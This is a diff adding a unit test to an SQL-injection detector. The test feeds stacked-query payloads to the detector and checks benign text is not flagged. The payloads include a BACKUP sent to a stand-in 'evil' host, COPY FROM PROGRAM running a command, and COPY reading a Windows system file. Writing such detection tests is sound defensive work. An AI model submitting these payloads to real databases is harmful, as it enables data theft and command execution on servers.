@@ -303,6 +303,28 @@ TEST(SqliTest, WholeDataChangingAndSchemaStatements) {
   }
 }
 
+// Statements stacked after ';' that write or read files on the server or
+// run a program: T-SQL's BACKUP and RESTORE, PostgreSQL's COPY.
+TEST(SqliTest, StackedBackupRestoreAndCopy) {
+  for (std::string_view v : {
+           "'; BACKUP DATABASE master TO DISK='\\\\evil\\x'--",
+           "1; RESTORE DATABASE shop FROM DISK = 'c:\\x.bak'",
+           "'; COPY loot FROM PROGRAM 'id'--",
+           "1; copy loot to '/tmp/x'",
+           "1;COPY t FROM 'C:/Windows/win.ini'",
+       }) {
+    Match m;
+    ASSERT_TRUE(Detects(SqliDetector(), v, &m)) << v;
+    EXPECT_EQ(m.rule_id, "sqli.stacked") << v;
+  }
+  for (std::string_view v : {"Backup database to the cloud nightly", "copy from the handout",
+                             "Restore log in settings", "Step 1; copy notes to 'archive'",
+                             "done; copy it to 'drafts' later", "Save; copy to clipboard"}) {
+    Match m;
+    EXPECT_FALSE(Detects(SqliDetector(), v, &m)) << v << " -> " << m.rule_id;
+  }
+}
+
 TEST(SqliTest, EscapedQuoteInsideTheClosedLiteral) {
   // A backslash-escaped quote stays inside the literal; the next quote closes it.
   for (std::string_view v : {"bob\\''or'z", "it\\'s me' OR 'k", "n\\''||'"}) {
